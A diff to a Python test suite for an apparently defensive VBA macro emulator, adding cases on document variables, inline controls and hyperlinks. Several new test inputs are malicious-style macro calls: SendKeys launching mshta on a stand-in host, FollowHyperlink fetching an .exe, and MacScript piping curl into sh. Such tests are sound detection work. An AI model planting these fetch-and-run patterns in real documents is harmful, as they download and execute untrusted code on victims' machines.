@@ -142,7 +142,9 @@ def test_a_name_like_a_constant_of_a_newer_library_is_unknown_and_junk_is_empty(
 
 
 def test_variables_are_made_by_assigning():
-    lines = 'ActiveDocument.Variables("new").Value = "v"\nActiveDocument.Variables("key") = "changed"\nActiveDocument.Variables.Add "third", "t"\n'
+    lines = (
+        'ActiveDocument.Variables("new") = "v"\nActiveDocument.Variables("key") = "changed"\nActiveDocument.Variables.Add "third", "t"\n'
+    )
     lines += 'For Each x In ActiveDocument.Variables\nMain = Main & x.Name & "=" & x & ";"\nNext'
     assert body(lines, DOCUMENT) == "key=changed;new=v;third=t;"
 
@@ -220,6 +222,10 @@ def test_opening_what_the_script_wrote_and_what_lies_on_the_network():
             "HKEY_CURRENT_USER\\Software\\A\\Level",
         ),
         ('Application.SendKeys "{ENTER}"', "keys", "{ENTER}"),
+        ('Application.SendKeys "mshta a.example.test~"', "run", "mshta a.example.test"),
+        ('ActiveDocument.FollowHyperlink "https://a.example.test/a/x.exe?b"', "download", "https://a.example.test/a/x.exe?b"),
+        ('MacScript "do shell script ""curl \\""a\\"" | sh"" with x"', "run", 'curl "a" | sh'),
+        ('AppleScriptTask "a.scpt", "h", "p"', "run", "a.scpt h p"),
         ('AddIns.Add "C:\\x\\a.dotm", True', "load", r"C:\x\a.dotm"),
         ('Application.ShellExecute "calc.exe", "/x"', "run", "calc.exe /x"),
         ('Application.OrganizerCopy ActiveDocument.FullName, "C:\\t.dotm", "M", 3', "write", r"C:\t.dotm"),
@@ -319,6 +325,14 @@ def test_control_frames_among_the_shapes():
         shapes=(Shape("Control 1", inline=True, control="T"),),
     )
     assert value("ActiveDocument.InlineShapes(1).OLEFormat.Object.Text & ActiveDocument.InlineShapes.Count", document) == "v1"
+    assert value("ActiveDocument.InlineShapes(1).Type = wdInlineShapeOLEControlObject", document) is True
+    assert value('ActiveDocument.Shapes("Control 1").OLEFormat.Object.Text & ActiveDocument.Shapes.Count', document) == "v0"
+
+
+def test_links_of_the_text():
+    document = Document(host="word", fields=(("DATE", "x"), ('HYPERLINK "https://a.example.test/" \\l "there" \\o "a tip"', "shown")))
+    link = "With ActiveDocument.Hyperlinks(1): Main = .Address & .SubAddress & .ScreenTip & .TextToDisplay & ActiveDocument.Hyperlinks.Count: End With"
+    assert body(link, document) == "https://a.example.test/therea tipshown1"
 
 
 NOTES = Document(host="word", paragraphs=(Paragraph("One\x02 and two\x02"),), stories={"footnotes": "\x02 first\r\x02second \r"})
